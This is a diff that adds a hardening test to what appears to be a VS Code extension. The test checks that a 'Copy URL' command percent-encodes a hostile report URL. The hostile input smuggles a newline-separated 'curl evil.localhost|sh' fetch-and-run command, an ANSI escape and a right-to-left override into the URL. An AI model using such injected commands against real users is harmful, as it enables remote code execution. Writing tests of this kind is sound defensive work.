@@ -143,4 +143,16 @@ describe('hardening', function () {
       timeoutMs: 8000,
     });
   });
+
+  it('finding 6: Copy URL copies one line of printable text, for one report and for several', async () => {
+    const hostile = await insertReport('https://copy.localhost/a\ncurl evil.localhost|sh\n\u001b[2J\u202egpj.exe');
+    const plain = await insertReport('https://copy.localhost/plain');
+    const one = await vscode.commands.executeCommand<string>('pageReports.copyReportUrl', { id: hostile.id });
+    assert.equal(one, 'https://copy.localhost/a%0Acurl evil.localhost|sh%0A%1B[2J%E2%80%AEgpj.exe');
+    const both = await vscode.commands.executeCommand<string>('pageReports.copyReportUrl', { id: plain.id }, [
+      { id: plain.id },
+      { id: hostile.id },
+    ]);
+    assert.equal(both, `https://copy.localhost/plain ${one}`);
+  });
 });
